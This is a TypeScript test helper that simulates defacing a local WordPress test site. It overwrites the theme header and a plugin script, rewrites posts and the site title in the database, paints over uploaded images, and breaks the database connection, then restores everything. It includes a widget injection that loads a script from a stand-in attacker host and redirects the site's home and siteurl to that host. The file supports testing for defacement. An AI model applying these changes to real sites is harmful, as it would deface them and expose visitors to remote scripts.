/** What those do who got in: each leaves marks by which a reader of the tests knows a false page. */
import { cp, readdir, rename, writeFile } from "node:fs/promises";
import { join } from "node:path";
import type { Machine } from "./wordpress.ts";
import { writeConfig } from "./prepared.ts";

/** Stand in everything that attackers leave here, and nowhere else. */
export const attackersMark = "Gh0stF4lcon";
export const attackersHost = "cdn.gh0stf4lcon.example";

export const slogan = `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Hacked By ${attackersMark}</title></head>
<body bgcolor="black" text="red"><center><h1>HACKED BY ${attackersMark}</h1><p>Your security is a joke. Long live the falcons!</p>
<marquee>${attackersMark} was here</marquee></center></body></html>`;

/** `home` sends every reader away, `siteurl` has every script and style come from elsewhere. */
export type DatabaseTarget = "posts" | "title" | "widget" | "home" | "siteurl";

export interface Attackers {
  /** Every page becomes this one. */
  defaceTheme(html?: string): Promise<void>;
  defaceDatabase(targets?: readonly DatabaseTarget[]): Promise<void>;
  /** The logo and the articles' pictures, in all their sizes. */
  defaceUploads(): Promise<void>;
  /** The same address, with a script that replaces the page in the browser. */
  defacePluginScript(script?: string): Promise<void>;
  /** "Error establishing a database connection". */
  breakDatabase(): Promise<void>;
  /** Every page leads to the installer, as where the tables are gone. */
  installer(): Promise<void>;
  /** The staff's repair of all of these; what editors wrote meanwhile stays, except in what was replaced. */
  restore(): Promise<void>;
}

export const overlay = `document.documentElement.innerHTML = '<body style="background:#000;color:red"><h1>${attackersMark}</h1></body>';`;
const theme = join("wp-content", "themes", "twentytwentyone");
const pluginScript = join("wp-content", "plugins", "federation-agenda", "agenda.js");
const uploads = join("wp-content", "uploads");

export function attackersOf(site: Machine): Attackers {
  const root = join(site.folder, "site");
  const socket = join(site.folder, "mariadb.sock");
  let hasKept = false;
  return {
    defaceTheme: (html = slogan) => writeFile(join(root, theme, "header.php"), `${html}<?php exit;`),
    async defaceDatabase(targets = ["posts", "title", "widget"]) {
      if (!hasKept) await site.php(keepTables);
      hasKept = true;
      for (const target of targets)
        await site.php(databaseAttacks[target], { mark: attackersMark, host: attackersHost });
    },
    defaceUploads: async () =>
      void (await site.php(paintOver, { folder: join(root, uploads), mark: attackersMark })),
    defacePluginScript: (script = overlay) => writeFile(join(root, pluginScript), script),
    breakDatabase: () => rename(socket, `${socket}.away`),
    installer: () => writeConfig(root, site.folder, "gone_"),
    async restore() {
      if ((await readdir(site.folder)).includes("mariadb.sock.away")) await rename(`${socket}.away`, socket);
      await writeConfig(root, site.folder);
      for (const path of [theme, pluginScript, uploads]) {
        await cp(join(site.pristine, "site", path), join(root, path), { recursive: true });
      }
      if (hasKept) await site.php(bringTablesBack);
      hasKept = false;
    },
  };
}

const keepTables = `
  global $wpdb;
  foreach (['posts', 'options'] as $table) {
    $wpdb->query("DROP TABLE IF EXISTS kept_$table");
    $wpdb->query("CREATE TABLE kept_$table AS SELECT * FROM $wpdb->prefix$table");
  }`;

const bringTablesBack = `
  global $wpdb;
  foreach (['posts', 'options'] as $table) $wpdb->query("REPLACE INTO $wpdb->prefix$table SELECT * FROM kept_$table");
  wp_cache_flush();`;

const databaseAttacks: Readonly<Record<DatabaseTarget, string>> = {
  posts: `
    global $wpdb;
    $wpdb->query($wpdb->prepare("UPDATE $wpdb->posts SET post_title = %s, post_content = %s WHERE post_type IN ('post', 'page')",
      "Hacked by $args[mark]", "<h2>$args[mark]</h2><p>We own you. Nothing here is yours any more.</p>"));`,
  title: `update_option('blogname', "Hacked by $args[mark]");`,
  widget: `newsroom_widget("<!-- wp:html --><script src=\\"https://$args[host]/w.js\\"></script><p>$args[mark]</p><!-- /wp:html -->");`,
  home: `update_option('home', "http://$args[host]");`,
  siteurl: `update_option('siteurl', "http://$args[host]");`,
};

const paintOver = `
  foreach (new RecursiveIteratorIterator(new RecursiveDirectoryIterator($args['folder'], FilesystemIterator::SKIP_DOTS)) as $file) {
    [$width, $height] = getimagesize($file->getPathname()) ?: [0, 0];
    if ($width === 0) continue;
    $picture = imagecreatetruecolor($width, $height);
    imagestring($picture, 5, 10, 10, $args['mark'], imagecolorallocate($picture, 255, 0, 0));
    imagepng($picture, $file->getPathname());
    file_put_contents($file->getPathname(), $args['mark'], FILE_APPEND);
  }`;
